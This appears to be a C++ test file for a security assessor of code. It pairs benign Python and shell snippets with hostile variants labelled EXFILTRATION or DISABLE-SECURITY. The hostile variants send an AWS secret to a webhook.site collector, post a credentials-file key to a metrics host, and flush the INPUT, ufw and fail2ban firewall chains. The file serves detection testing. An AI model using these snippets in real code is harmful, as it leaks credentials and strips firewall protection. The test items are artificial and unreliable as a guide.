// The classes the sixtieth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog64_MANIFEST.tsv): scientific and data work, game
// servers and their communities, home labs, security teaching tools and
// developer workstations. Its aside scored 32/36 before any change; the
// classes below came from its tune part (60/64 before). Strings here are
// never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// dict(self.params, query=q) copies a dict an attribute holds on several
// paths ({"api_key": key} if key else {}): its keys stay keys, so the API's
// key in its own query parameter is still authentication, not a body.
TEST(SixtiethRoundClasses, ACopyOfADictSetOnSeveralPathsKeepsItsKeys) {
  const Case cases[] = {
      {"an API key copied into the query of its own API", L,
       "import os\n"
       "import requests\n"
       "\n"
       "\n"
       "class Catalog:\n"
       "    def __init__(self, key=None):\n"
       "        self.session = requests.Session()\n"
       "        self.params = {\"api_key\": key} if key else {}\n"
       "\n"
       "    def search(self, query):\n"
       "        params = dict(self.params, query=query)\n"
       "        return self.session.get(\"https://api.themoviedb.org/3/search/movie\", params=params, timeout=8).json()\n"
       "\n"
       "\n"
       "key = os.environ.get(\"TMDB_API_KEY\")\n"
       "print(Catalog(key).search(\"alien\"))\n",
       nullptr},
      {"a cloud secret copied into the query of a collector", B,
       "import os\n"
       "import requests\n"
       "\n"
       "\n"
       "class Catalog:\n"
       "    def __init__(self, key=None):\n"
       "        self.session = requests.Session()\n"
       "        self.params = {\"api_key\": key} if key else {}\n"
       "\n"
       "    def search(self, query):\n"
       "        params = dict(self.params, query=query)\n"
       "        return self.session.get(\"https://webhook.site/3f1c2a\", params=params, timeout=8).json()\n"
       "\n"
       "\n"
       "key = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\n"
       "print(Catalog(key).search(\"alien\"))\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// python-iptables: flushing a chain the code names itself is its own rules
// removed (iptables -F NAME); a built-in chain or a firewall manager's (ufw,
// fail2ban: config firewall_chains, shared with the shell), or one named at
// run time, is the firewall taken down.
TEST(SixtiethRoundClasses, FlushingAnIptcChainDependsOnWhichChain) {
  const Case cases[] = {
      {"the code's own chain flushed", H,
       "import iptc\n"
       "\n"
       "CHAIN = \"GAMENET\"\n"
       "\n"
       "\n"
       "def reset_rules():\n"
       "    table = iptc.Table(iptc.Table.FILTER)\n"
       "    chain = iptc.Chain(table, CHAIN)\n"
       "    chain.flush()\n"
       "    table.commit()\n"
       "\n"
       "\n"
       "reset_rules()\n",
       "SYSTEM-ADMINISTRATION"},
      {"the INPUT chain flushed", B,
       "import iptc\n"
       "\n"
       "CHAIN = \"INPUT\"\n"
       "\n"
       "\n"
       "def reset_rules():\n"
       "    table = iptc.Table(iptc.Table.FILTER)\n"
       "    chain = iptc.Chain(table, CHAIN)\n"
       "    chain.flush()\n"
       "    table.commit()\n"
       "\n"
       "\n"
       "reset_rules()\n",
       "DISABLE-SECURITY"},
      {"ufw's chain of the user's rules flushed", B,
       "import iptc\n"
       "table = iptc.Table(iptc.Table.FILTER)\n"
       "iptc.Chain(table, \"ufw-user-input\").flush()\n"
       "table.commit()\n",
       "DISABLE-SECURITY"},
      {"the same in shell: the code's own chain", H, "iptables -w -F GAMENET\n", "SYSTEM-ADMINISTRATION", SH},
      {"the same in shell: fail2ban's chain", B, "iptables -w -F f2b-sshd\n", "DISABLE-SECURITY", SH},
      {"a chain named on the command line flushed", B,
       "import iptc\n"
       "\n"
       "import sys\n"
       "CHAIN = sys.argv[1]\n"
       "\n"
       "\n"
       "def reset_rules():\n"
       "    table = iptc.Table(iptc.Table.FILTER)\n"
       "    chain = iptc.Chain(table, CHAIN)\n"
       "    chain.flush()\n"
       "    table.commit()\n"
       "\n"
       "\n"
       "reset_rules()\n",
       "DISABLE-SECURITY"},
  };
  for (const auto& c : cases) check(c);
}

// configparser's get(..., fallback=X) is X wherever the file is silent:
// the code's default command may be what runs.
TEST(SixtiethRoundClasses, AConfigFallbackIsWhatRunsWhereTheFileIsSilent) {
  const Case cases[] = {
      {"sudo poweroff as the fallback action", H,
       "import configparser\n"
       "import shlex\n"
       "import subprocess\n"
       "\n"
       "DEFAULT_ACTION = \"sudo -n /sbin/poweroff\"\n"
       "\n"
       "\n"
       "def on_low_battery(cfg):\n"
       "    cmd = shlex.split(cfg.get(\"policy\", \"action\", fallback=DEFAULT_ACTION))\n"
       "    subprocess.run(cmd, check=False)\n"
       "\n"
       "\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read(\"ups.ini\")\n"
       "on_low_battery(cfg)\n",
       "PRIVILEGE-ESCALATION"},
      {"a desktop notification as the fallback action", M,
       "import configparser\n"
       "import shlex\n"
       "import subprocess\n"
       "\n"
       "DEFAULT_ACTION = \"notify-send \"battery low\"\"\n"
       "\n"
       "\n"
       "def on_low_battery(cfg):\n"
       "    cmd = shlex.split(cfg.get(\"policy\", \"action\", fallback=DEFAULT_ACTION))\n"
       "    subprocess.run(cmd, check=False)\n"
       "\n"
       "\n"
       "cfg = configparser.ConfigParser()\n"
       "cfg.read(\"ups.ini\")\n"
       "on_low_battery(cfg)\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// The fallback makes the value text on some paths and unknown on others; a
// yes/no question asked of it (key.startswith("AKIA")) is still a boolean,
// never the key.
TEST(SixtiethRoundClasses, APredicateOfAValueWithAFallbackIsNotTheValue) {
  const Case cases[] = {
      {"whether a key is long-term, sent to metrics", L,
       "import configparser, os, requests\n"
       "p = configparser.ConfigParser()\n"
       "p.read(os.path.expanduser(\"~/.aws/credentials\"))\n"
       "k = p.get(\"default\", \"aws_access_key_id\", fallback=\"\")\n"
       "lt = k.startswith(\"AKIA\")\n"
       "requests.post(\"https://metrics.example.net/x\", json={\"lt\": lt}, timeout=5)\n",
       nullptr},
      {"the key itself sent to metrics", B,
       "import configparser, os, requests\n"
       "p = configparser.ConfigParser()\n"
       "p.read(os.path.expanduser(\"~/.aws/credentials\"))\n"
       "k = p.get(\"default\", \"aws_access_key_id\", fallback=\"\")\n"
       "requests.post(\"https://metrics.example.net/x\", json={\"key\": k}, timeout=5)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
